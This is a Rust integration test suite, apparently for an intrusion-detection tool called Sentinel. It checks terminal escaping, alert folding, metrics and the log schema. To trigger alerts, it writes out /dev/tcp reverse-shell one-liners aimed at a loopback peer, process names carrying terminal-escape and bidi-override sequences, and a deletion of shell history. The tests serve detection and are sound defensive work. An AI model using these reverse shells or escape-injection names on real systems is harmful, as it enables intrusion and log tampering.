//! What the operator sees of a real attack by somebody who chose all names: on a terminal, in a pipe, in
//! the log.

use std::{
    fs,
    io::Write,
    os::unix::{ffi::OsStrExt as _, fs::PermissionsExt as _},
    process::{Child, ChildStdin, Command, Stdio},
};

use sentinel_tests::{
    bed::{Bed, skip},
    peer::Peer,
    sentinel::{PATIENCE, Sentinel, alerts, descendant_running, lines, program, within},
};

/// Clears the screen, sets the title, C1 controls in UTF-8, no UTF-8, text that runs backwards, a new line.
const HOSTILE: &[u8] =
    b"\x1b[2J\x1b]0;x\x07\xc2\x9b2J\x9b\xff\xe2\x80\xae\xe2\x80\xa8\nCRITICAL fake";

/// A reverse shell, below a shell in the bed, whose program and arguments have hostile names.
fn attack(bed: &Bed, peer: &Peer) {
    let name = [b"sh", HOSTILE].concat();
    let hostile = bed.path("x").with_file_name(std::ffi::OsStr::from_bytes(&name));
    fs::copy("/bin/bash", &hostile).unwrap();
    fs::set_permissions(&hostile, fs::Permissions::from_mode(0o755)).unwrap();
    let script = format!(
        "exec 3<>/dev/tcp/127.0.0.1/{}; \"$0\" --norc -s \"$1\" <&3 >&3; true",
        peer.address().port()
    );
    let mut child = bed
        .command("bash")
        .args(["-c", &script])
        .arg(&hostile)
        .arg(std::ffi::OsStr::from_bytes(HOSTILE))
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    peer.shell().exit();
    child.wait().unwrap();
}

/// A run on a terminal of so many columns, which script(1) makes.
struct OnTerminal {
    script: Child,
    keyboard: Option<ChildStdin>,
    transcript: std::path::PathBuf,
}

impl OnTerminal {
    fn start(bed: &Bed, columns: u32, variables: &str, options: &str) -> Self {
        let transcript = bed.path(&format!("transcript{columns}"));
        let run = format!(
            "stty cols {columns} rows 24; exec env {variables} {} run --scope-cgroup={} {options}",
            program().display(),
            bed.cgroup().display()
        );
        let mut script = Command::new("script")
            .args(["-qefc", &run])
            .arg(&transcript)
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .spawn()
            .unwrap();
        let keyboard = script.stdin.take();
        let terminal = Self { script, keyboard, transcript };
        assert!(within(PATIENCE, || terminal.shown().contains("hooks attached")), "no banner");
        terminal
    }

    fn shown(&self) -> String {
        String::from_utf8_lossy(&fs::read(&self.transcript).unwrap_or_default()).into_owned()
    }

    /// Waits for `text`, ends the run, and gives all that it wrote, without what script(1) says itself.
    fn stop_after(mut self, text: &str) -> String {
        let seen = within(PATIENCE, || self.shown().contains(text));
        self.keyboard.as_mut().unwrap().write_all(b"\x03").unwrap();
        assert!(self.script.wait().unwrap().success(), "{}", self.shown());
        assert!(seen, "no {text:?} in {}", self.shown());
        let bytes = fs::read(&self.transcript).unwrap();
        let text = String::from_utf8(bytes).expect("nothing but UTF-8 reaches a terminal");
        let own = |line: &&str| !line.starts_with("Script ");
        text.split('\n').filter(own).collect::<Vec<_>>().join("\n")
    }
}

/// `text` without what Sentinel itself steers a terminal with.
fn without_own(text: &str) -> String {
    let colours = ["0", "1", "2", "7", "31", "33", "36"].map(|code| format!("\x1b[{code}m"));
    let own = colours.iter().map(String::as_str).chain(["\r\x1b[2K", "\r\n", "^C"]);
    let instead = |own: &str| if own.starts_with('\r') { "\n" } else { "" };
    own.fold(text.to_owned(), |text, own| text.replace(own, instead(own)))
}

fn is_bad(character: char) -> bool {
    character != '\n'
        && (character.is_control() || sentinel_analyzer::escape::is_invisible(character))
}

#[test]
fn hostile_names_reach_neither_terminal_nor_log_raw() {
    let Some(bed) = Bed::new() else { return };
    for (columns, variables) in
        [(80, "TERM=xterm"), (40, "TERM=xterm NO_COLOR=1"), (200, "TERM=dumb")]
    {
        let peer = Peer::listen("127.0.0.1");
        let terminal = OnTerminal::start(&bed, columns, variables, "");
        let is_dumb = variables == "TERM=dumb";
        assert!(is_dumb || within(PATIENCE, || terminal.shown().contains("elapsed")), "a status");
        attack(&bed, &peer);
        let shown = terminal.stop_after("CRITICAL");
        assert_eq!(shown.contains("\x1b[31m"), columns == 80, "colour where it is wanted");
        assert_eq!(shown.contains("\x1b[2K"), !is_dumb, "a dumb terminal has no status line");
        let plain = without_own(&shown);
        assert!(!plain.contains(is_bad), "{plain:?}");
        assert!(plain.contains("\\u{1b}[2J"), "{plain}");
        // Lines for a dumb terminal are as long as they are.
        for line in plain.lines().filter(|_| !is_dumb) {
            assert!(line.chars().count() <= usize::try_from(columns).unwrap(), "{line:?}");
        }
        for words in ["under ", "Summary", "events ", "alerts ", "sequences", "processes"] {
            assert!(plain.contains(words), "{words} in {plain}");
        }
    }
    let mut sentinel = Sentinel::start(&bed, &[]);
    attack(&bed, &Peer::listen("127.0.0.1"));
    sentinel.wait_for("CRITICAL");
    let log = sentinel.log().to_owned();
    let outcome = sentinel.stop();
    assert!(!outcome.output.contains(is_bad), "{:?}", outcome.output);
    let raw = fs::read_to_string(&log).unwrap();
    assert!(!raw.contains(is_bad), "{raw:?}");
    let exe = outcome.alerts[0]["exe"].as_str().unwrap();
    assert!(exe.contains("/sh\\u{1b}[2J") && exe.contains("\\x9b\\xff\\u{202e}"), "{exe}");
}

#[test]
fn what_loader_and_enforcer_say_leaves_the_status_line_whole() {
    let Some(bed) = Bed::new() else { return };
    let peer = Peer::listen("127.0.0.1");
    let terminal = OnTerminal::start(&bed, 80, "TERM=xterm", "--grimoire-enforce");
    assert!(within(PATIENCE, || terminal.shown().contains("elapsed")), "a status");
    for name in ["sentinel-loader", "sentinel-enforcer"] {
        let pid = descendant_running(terminal.script.id(), name).expect("it runs");
        let words = fs::read_link(format!("/proc/{pid}/fd/2")).unwrap();
        assert!(words.to_string_lossy().starts_with("pipe:"), "{name} writes to {words:?}");
    }
    attack(&bed, &peer);
    let shown = terminal.stop_after("audit verdict=");
    // Each on a line of its own.
    let plain = without_own(&shown);
    let mut lines = plain.lines();
    assert!(lines.any(|line| line.starts_with("sentinel-enforcer: audit verdict=")), "{plain}");
    assert!(plain.lines().all(|line| line.chars().count() <= 80), "{plain}");
    let mut of_status = plain.lines().filter(|line| line.contains("elapsed "));
    assert!(of_status.all(|line| line.starts_with("elapsed ")), "{plain}");
}

#[test]
fn the_same_again_is_one_line_with_its_count_and_counters_are_in_the_log() {
    let Some(bed) = Bed::new() else { return };
    let (log, metrics) = (bed.path("all.json"), bed.path("metrics/sentinel.prom"));
    let options = [
        "--enable-json-log".to_owned(),
        format!("--json-log-path={}", log.display()),
        format!("--metrics-file={}", metrics.display()),
    ];
    let mut sentinel = Sentinel::start(&bed, &options.each_ref().map(String::as_str));
    let peer = Peer::listen("127.0.0.1");
    for _ in 0..4 {
        // Below a shell in the bed, so that the parent is seen and an exception can name it.
        let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
        let mut command = bed.command("sh");
        let command = command.args(["-c", r#"bash -c "$0" 2>&-; true"#, &code]);
        let mut child = command.stdin(Stdio::null()).spawn().unwrap();
        peer.shell().exit();
        child.wait().unwrap();
    }
    // What is less grave is the same again whichever process does it.
    let history = bed.path(".bash_history");
    for _ in 0..4 {
        fs::write(&history, "ls\n").unwrap();
        assert!(bed.command("rm").arg(&history).status().unwrap().success());
    }
    sentinel.wait_for("CRITICAL");
    let outcome = sentinel.stop();
    let of = |rule: &str| -> Vec<&serde_json::Value> {
        outcome.alerts.iter().filter(|alert| alert["pattern_name"] == rule).collect()
    };
    assert_eq!(of("reverse_shell").len(), 4, "each process is told: {:#?}", outcome.alerts);
    let [first, folded] = of("shell_history_removed")[..] else { panic!("{:#?}", outcome.alerts) };
    assert!(first.get("count").is_none() && folded["count"] == 3, "{folded}");
    assert_eq!(folded["pids"].as_array().unwrap().len(), 3, "{folded}");
    assert!(folded["message"].as_str().unwrap().starts_with("the same 3 times more within"));
    assert!(outcome.output.contains("3 told as one line with the same"), "{}", outcome.output);
    assert_eq!(alerts(&log), outcome.alerts);
    let counters = lines(&log).pop().unwrap();
    assert_eq!(counters["pattern_name"], "sensor_counters");
    assert!(counters["counters"]["execs"].as_u64().unwrap() >= 8, "{counters}");
    assert_eq!(counters["counters"]["alerts_folded"], 3);

    let numbers = fs::read_to_string(&metrics).unwrap();
    for line in [
        "sentinel_alerts_total{severity=\"critical\"} 4",
        "sentinel_rule_alerts_total{rule=\"reverse_shell\",severity=\"critical\"} 4",
        "sentinel_rule_alerts_total{rule=\"shell_history_removed\",severity=\"warning\"} 4",
        "sentinel_alert_latency_seconds_count 8",
        "sentinel_alerts_folded_total 3",
    ] {
        assert!(numbers.lines().any(|one| one == line), "{line} in\n{numbers}");
    }
    let memory = "sentinel_analyzer_resident_memory_bytes ";
    let memory = numbers.lines().find_map(|line| line.strip_prefix(memory)).unwrap();
    assert!(memory.parse::<u64>().unwrap() > 1 << 20);
    assert_eq!(fs::metadata(&metrics).unwrap().permissions().mode() & 0o777, 0o644);
    promtool(&numbers);
    report(&bed, &log);
    schema(&log);
}

/// Where Prometheus is installed, its own checker agrees.
fn promtool(numbers: &str) {
    let checker = Command::new("promtool").args(["check", "metrics"]).stdin(Stdio::piped()).spawn();
    let Ok(mut checker) = checker else { return };
    checker.stdin.take().unwrap().write_all(numbers.as_bytes()).unwrap();
    assert!(checker.wait().unwrap().success());
}

/// What `sentinel shadow-report` makes of the log, as somebody without any rights.
fn report(bed: &Bed, log: &std::path::Path) {
    let rules = bed.path("rules.d");
    fs::create_dir(&rules).unwrap();
    let report = |more: &[&str]| {
        let mut command = Command::new(program());
        command.arg("shadow-report").arg(format!("--rules={}", rules.display())).args(more);
        let output = command.arg(log).output().unwrap();
        assert!(output.status.success(), "{output:?}");
        String::from_utf8(output.stdout).unwrap()
    };
    let text = report(&[]);
    for words in
        ["critical 4 ", "4 of 4 critical alerts are unexplained", "4 /usr/bin/bash", "NOT MET"]
    {
        assert!(text.contains(words), "{words} in\n{text}");
    }
    let toml = report(&["--toml"]);
    let proposed = rules.join("proposed.toml");
    fs::write(&proposed, &toml).unwrap();
    let check = Command::new(program()).args(["rules", "check"]).arg(&proposed).output().unwrap();
    assert!(check.status.success(), "{check:?}\n{toml}");
    assert!(report(&[]).contains("0 of 4 critical alerts are unexplained"), "{toml}");
}

/// Somebody else's checker of JSON Schema agrees that the lines are as the schema says.
fn schema(log: &std::path::Path) {
    let schema = concat!(env!("CARGO_MANIFEST_DIR"), "/../packaging/schema/alert.schema.json");
    let check = "import json, sys
try: import jsonschema
except ImportError: sys.exit(3)
schema = json.load(open(sys.argv[1]))
jsonschema.Draft202012Validator.check_schema(schema)
for line in open(sys.argv[2]): jsonschema.validate(json.loads(line), schema)";
    let mut python = Command::new("/usr/bin/python3");
    let status = python.args(["-c", check, schema]).arg(log).status().unwrap();
    match status.code() {
        Some(3) => skip("python3-jsonschema is missing"),
        code => assert_eq!(code, Some(0)),
    }
}
